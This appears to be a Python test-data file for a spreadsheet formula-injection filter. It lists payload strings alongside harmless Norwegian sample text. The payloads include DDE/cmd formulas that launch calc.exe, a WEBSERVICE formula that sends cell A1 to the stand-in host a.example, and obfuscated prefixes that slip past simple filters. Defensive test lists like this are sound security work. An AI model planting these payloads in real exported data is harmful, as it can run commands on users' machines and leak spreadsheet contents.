"""Texts that make spreadsheet programs calculate, call out or start something."""

PAYLOADS = (
    "=1+1", "=SUM(1;1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://a.example\",\"x\")",
    "=WEBSERVICE(\"http://a.example/\"&A1)", "=IMPORTXML(\"http://a.example\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "=INDIRECT(\"A1\")", "=EXEC(\"calc\")", "+1+1", "+cmd|'/C calc'!A0", "+SUM(1,2)",
    "+\"x\"", "-1+1", "-2+3+cmd|' /C calc'!A0", "-SUM(1)", "-A1", "@SUM(1+1)",
    "@cmd|'/C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "  +1+1",
    "\"=1+1", "'=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\uff1d1+1", "\uff0bA1",
    "\uff0dA1", "\uff20SUM(1)", "|cmd|'/C calc'!A0", "%0A-3+3+cmd|'/C calc'!D2",
    "ok;=1+1", "ok,=1+1", "ok\t=1+1", "ok\";=cmd|'/C calc'!A0;\"", "ok\n=1+1",
)  # fmt: skip
HARMLESS = ("Lia skole", "3-roms", "a = b", "50 % ferdig", "Tak, vegg og gulv", "post@kommune.no",
            "Skift pakning - se notat", "C+", "1-2 år")  # fmt: skip
